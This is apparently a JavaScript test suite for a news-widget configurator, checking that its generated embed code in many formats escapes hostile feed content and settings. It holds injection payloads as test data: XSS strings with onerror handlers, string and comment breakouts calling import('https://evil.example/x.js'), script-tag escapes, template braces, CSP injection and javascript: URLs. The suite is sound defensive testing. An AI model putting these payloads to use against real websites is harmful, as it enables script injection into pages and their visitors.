/** The code that the configurator gives to be copied, for any settings, hostile ones too. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { transformSync } from 'esbuild';
import { parseFragment } from 'parse5';
import { parseSync } from 'vite';
import { contrast, poorContrasts } from '../../demo/configurator/contrast.js';
import { OUTPUTS, outputFor } from '../../demo/configurator/outputs.js';
import {
  defaults,
  ELEMENTS,
  FIELDS,
  LANGUAGES,
  LAYOUTS,
  readSettings,
  THEMES,
  writeSettings,
} from '../../demo/configurator/settings.js';
import { judge } from '../../demo/configurator/verdict.js';
import messages from '../../dist/i18n/locales/ko.js';
import { random } from '../random.mjs';

const NASTY = `"'><img src=x onerror=alert(1)></dongpo-best></script>{{7*7}}\${x}\`&copy;\u0001 끝`;
const feed = {
  title: NASTY,
  home_page_url: 'https://news.example/?a=1&b=2',
  items: [1, 2, 3].map((no) => ({
    id: `${no}`,
    url: `https://news.example/?no=${no}&x="`,
    title: `${no} ${NASTY}`,
  })),
  _dongpo: {},
};
const context = {
  cdn: 'https://widgets.example/v0/',
  exact: 'https://widgets.example/0.1.0/',
  hashes: { 'dongpo.js': 'sha384-a', 'dongpo.classic.js': 'sha384-b', 'x-abcdef.js': 'sha384-c' },
  feed,
  today: '2026-11-26',
  messages,
  staticHtml: '<section></section>',
};
const src = 'https://news.example/latest.json?a=1&b=2';

/** Every element and attribute of a piece of markup. */
function* nodes(node) {
  for (const child of node.childNodes ?? []) {
    if (child.tagName) yield child;
    yield* nodes(child);
  }
}
const OURS = /^(dongpo-\w+|link|script|ul|li|a|small|div|iframe|img|section)$/;

describe('the outputs of the configurator', () => {
  const next = random(7);
  const pick = (list) => list[Math.floor(next() * list.length)];
  const setups = Array.from({ length: 60 }, () => ({
    ...defaults,
    src,
    element: pick(ELEMENTS),
    layout: pick(LAYOUTS),
    show: pick(['', 'none', FIELDS.slice(0, 2).join(' ')]),
    limit: pick(['', '3', '100']),
    heading: pick(['', '-', NASTY, '많이 본 뉴스']),
    item: pick(['', NASTY]),
    lang: pick(['', ...Object.keys(LANGUAGES)]),
    theme: pick(THEMES),
    accent: pick(['', '#123456']),
    order: pick(['', 'oldest']),
    exclude: pick(['', '', NASTY.slice(0, 90)]),
    offset: pick(['', '1']),
    unique: pick(['', '1']),
    further: pick(['', 'button', 'link']),
    furtherUrl: pick(['', NASTY]),
    params: pick(['', `utm=a&x=${NASTY}`]),
    target: pick(['', '_blank']),
    review: pick(['', '1']),
  }));

  for (const output of OUTPUTS)
    it(`the configurator's ${output} contains no markup from a feed or a setting`, async () => {
      for (const settings of setups) {
        const { code, policy } = await outputFor(output, settings, context);
        assert.ok(code.length > 10);
        assert.doesNotMatch(code, /undefined|\[object|NaN/);
        assert.doesNotMatch(policy, /undefined|;\s*;|\n/);
        if (/^(npm|react|vue|svelte|angular|static)$/.test(output)) continue;
        // The first line of a card is its bare address.
        const written = output === 'card' ? code.split('\n\n')[1] : code;
        const found = [...nodes(parseFragment(written))];
        for (const { tagName, attrs } of found) {
          assert.match(tagName, OURS);
          assert.ok(
            !attrs.some(({ name, value }) => /^on|^srcdoc$/.test(name) || /^javascript:/i.test(value)),
          );
          assert.ok(tagName !== 'img' || output === 'card');
        }
        // Every attribute has a value, in quotes, and every element its end.
        const start = written.replace(/<script type="importmap">[\s\S]*?<\/script>/, '');
        assert.doesNotMatch(start.replace(/"[^"]*"/g, '""'), /<[a-z][^<>]*\s[\w-]+(?=[\s>])(?!=)/);
        assert.doesNotMatch(start.replace(/&(amp|lt|gt|quot|#\d+);/g, ''), /&/);
      }
    });

  it("the configurator's ascii output is pure ASCII", async () => {
    for (const settings of setups)
      assert.match((await outputFor('ascii', settings, context)).code, /^[\0-\x7e]+$/);
  });

  for (const output of ['npm', 'react', 'angular'])
    it(`the configurator's ${output} is code that compiles`, async () => {
      for (const settings of setups) {
        const { code } = await outputFor(output, settings, context);
        const tsconfigRaw = { compilerOptions: { experimentalDecorators: true } };
        assert.doesNotThrow(
          () => transformSync(code, { loader: 'tsx', jsx: 'automatic', tsconfigRaw }),
          code,
        );
      }
    });

  for (const output of ['vue', 'svelte'])
    it(`the configurator's ${output} runs no braces of a setting as code`, async () => {
      for (const settings of setups) {
        const { code } = await outputFor(output, settings, context);
        assert.doesNotMatch(code.replace(/<script[\s\S]*?<\/script>/, ''), /[{}]/);
      }
    });
});

/** Ends of strings, comments, elements and lines in the languages of the outputs. */
const ENDS = [
  "BEST\nimport('https://evil.example/x.js') //",
  "\rimport('https://evil.example/x.js')",
  "\u2028import('https://evil.example/x.js')\u2029//",
  "\u0085\v\f\timport('https://evil.example/x.js')",
  "*/ import('https://evil.example/x.js') /*",
  '--> <!-- /wp:html --> <script>evil()</script> <!--',
  ']]> <![CDATA[ ?> <?php evil() ?> <% evil() %>',
  '</script><script>evil()</script>',
  '</template></style></textarea></title><img src=x onerror=evil()>',
  `" onload="evil()" x='`,
  `' onload='evil()' x="`,
  '`$' + '{evil()}`',
  '{evil()} {{evil()}} {@html evil} @if (evil()) { @{evil()} }',
  '\\" \\` \\u0022 \\x22 &quot; &#34; &#10; &#x2028;',
  ';script-src * ; , default-src *',
  'javascript:evil()',
  '\ud800 \udfff \0 \u202e',
];

describe('an output of the configurator quotes by its own language', () => {
  const usual = { ...defaults, src, element: 'article', item: 'i', heading: 'h', params: 'a=b', review: '1' };
  const lists = { ...usual, element: 'headlines', item: '' };
  const fields = Object.keys(defaults);
  const variants = [usual, lists].flatMap((base) => [
    ...fields.flatMap((field) => ENDS.map((end) => ({ ...base, [field]: end }))),
    ...ENDS.map((end) => ({ ...base, src: `https://news.example/${end}/best.json` })),
    ...ENDS.map((end) => ({ ...base, src: `https://news.example${end}/best.json` })),
  ]);
  // All attributes of one element, without controls in their values.
  const allowed = (text) => text.replace(/[^\t\n\r -~\u00a0-\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]/gu, '');

  for (const output of OUTPUTS)
    it(`${output}, with ends of strings, comments, elements and lines in every field`, async () => {
      const lineCounts = new Set();
      for (const base of [usual, lists])
        for (const change of [
          {},
          { heading: '' },
          { params: '' },
          { item: '' },
          { src: '' },
          { element: 'best' },
          { topic: 'a' },
        ])
          lineCounts.add(
            (await outputFor(output, { ...base, ...change }, context)).code.split(/[\n\r\u2028\u2029]/)
              .length,
          );
      for (const settings of variants) {
        const { code, policy } = await outputFor(output, settings, context);
        assert.doesNotMatch(policy, /evil|\*|[\n\r\u2028]|;\s*;|default-src/);
        assert.doesNotMatch(code, /[\u0085\u2028-\u202e]|\r|\t/);
        if (/^(npm|react|angular)$/.test(output)) {
          const { module, errors } = parseSync('code.tsx', code);
          assert.deepEqual(errors, [], code);
          assert.equal(module.dynamicImports.length, 0, code);
          for (const { moduleRequest } of module.staticImports)
            assert.match(moduleRequest.value, /^(dongpo-widgets\/[\w./]+|@angular\/core)$/);
          assert.ok(lineCounts.has(code.split('\n').length), code);
        } else if (output === 'vue' || output === 'svelte')
          assert.doesNotMatch(code.replace(/<script[\s\S]*?<\/script>/, ''), /[{}]/);
        else if (output !== 'static')
          for (const { tagName, attrs } of nodes(
            parseFragment(output === 'card' ? code.split('\n\n')[1] : code),
          )) {
            assert.match(tagName, OURS);
            for (const { name, value } of attrs) {
              assert.doesNotMatch(name, /^on|^x$/);
              if (/^(data-)?heading$/.test(name) && settings.heading.length <= 100)
                assert.equal(value, allowed(settings.heading));
            }
          }
        if (output === 'card') assert.doesNotMatch(code.split('\n\n')[0], /[<>"\s]/);
      }
    });

  it('a script tag names the origin of the feed, and no other', async () => {
    const { code } = await outputFor('module', { ...lists, review: '' }, context);
    assert.match(code, /<script[^>]*\sdata-upgrade="https:\/\/news\.example"/);
    for (const address of ['javascript:evil()', 'data:x', 'x', '//'])
      assert.doesNotMatch(
        (await outputFor('classic', { ...lists, src: address }, context)).code,
        /data-upgrade/,
      );
  });

  it('the fallback of a snippet has the items that are chosen', async () => {
    const of = async (change) => {
      const { code } = await outputFor('module', { ...lists, ...change }, context);
      return [...code.matchAll(/no=(\d)/g)].map(([, number]) => number).join('');
    };
    assert.equal(await of({}), '123');
    assert.equal(await of({ offset: '1' }), '23');
    assert.equal(await of({ exclude: '2', limit: '1', offset: '1' }), '3');
    assert.equal(await of({ include: '없는 말' }), '');
  });

  it('plain markup and frames are written with what they can set', async () => {
    const settings = {
      ...lists,
      refresh: '300',
      target: '_blank',
      unique: '1',
      further: 'link',
      furtherUrl: 'https://news.example/all',
    };
    for (const output of ['wordpress-post', 'tistory-post', 'blogger-post', 'iframe']) {
      const { code } = await outputFor(output, settings, context);
      assert.doesNotMatch(code, /refresh|target|link-params|more-url/);
      assert.match(code, /unique/);
    }
  });
});

describe('the settings of the configurator in an address', () => {
  it('settings written into an address are read back unchanged', () => {
    const settings = {
      ...defaults,
      src,
      heading: NASTY.slice(0, 60),
      limit: '7',
      theme: 'plain',
      accent: '#abcdef',
    };
    const { settings: read, ignored } = readSettings(writeSettings(settings));
    assert.deepEqual(read, settings);
    assert.deepEqual(ignored, []);
    assert.equal(writeSettings(defaults), '');
  });

  it('unknown settings in an address are reported, shortened, ten at most', () => {
    const query = new URLSearchParams(
      Array.from({ length: 30 }, (_, index) => [`x${index}${'y'.repeat(100)}`, '1']),
    );
    const { settings, ignored } = readSettings(`?${query}&limit=0&limit=1e9&__proto__=1&refresh=5`);
    assert.deepEqual(settings, defaults);
    assert.equal(ignored.length, 10);
    assert.ok(ignored.every((name) => name.length <= 40));
  });
});

it('the contrast ratio is that of WCAG', () => {
  assert.equal(contrast('#000000', '#ffffff'), 21);
  assert.equal(contrast('#777777', '#ffffff').toFixed(2), '4.48');
  const poor = poorContrasts({ ...defaults, color: '#999999', accent: '#dddddd' });
  assert.deepEqual(
    poor.map(({ name }) => name),
    ['color', 'accent'],
  );
  assert.deepEqual(poorContrasts(defaults), []);
  assert.deepEqual(poorContrasts({ ...defaults, ground: 'dark' }), []);
});

it('an http feed on an https page is reported, unless it is on this machine', async () => {
  const page = 'https://partner.example/';
  assert.equal((await judge('http://news.example/a.json', { page })).code, 'mixed');
  assert.equal((await judge('', { page })).code, 'none');
  assert.equal((await judge('javascript:alert(1)', { page })).code, 'address');
  assert.equal((await judge('http://', { page })).code, 'address');
});
